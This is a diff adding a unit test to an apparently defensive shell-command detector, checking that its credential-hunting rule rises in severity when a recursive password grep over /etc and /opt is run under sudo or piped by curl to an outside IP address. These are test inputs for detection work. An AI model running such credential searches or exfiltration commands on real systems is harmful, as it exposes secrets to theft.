@@ -158,3 +158,14 @@ def test_windows_shells_go_to_the_windows_detector_when_present(monkeypatch: pyt
     monkeypatch.setitem(sys.modules, "ssm_warden.detect.windows", module)
     assert get_detector().judge_command("Get-Process", "powershell") == []
     assert calls == [("Get-Process", "powershell")]
+
+
+def test_severity_rises_towards_an_unknown_host_and_under_sudo() -> None:
+    def severity(command: str) -> str:
+        hits = [f for f in get_detector().judge_command(command) if f.rule == "credential-files-hunted"]
+        return hits[0].severity.value
+
+    # Given the same search for secrets, kept on the host, sent out, and run under sudo
+    assert severity("grep -rni password /etc /opt") == "medium"
+    assert severity("grep -rni password /etc /opt | curl -d @- https://198.51.100.7/u") == "high"
+    assert severity("sudo grep -rni password /etc /opt") == "high"
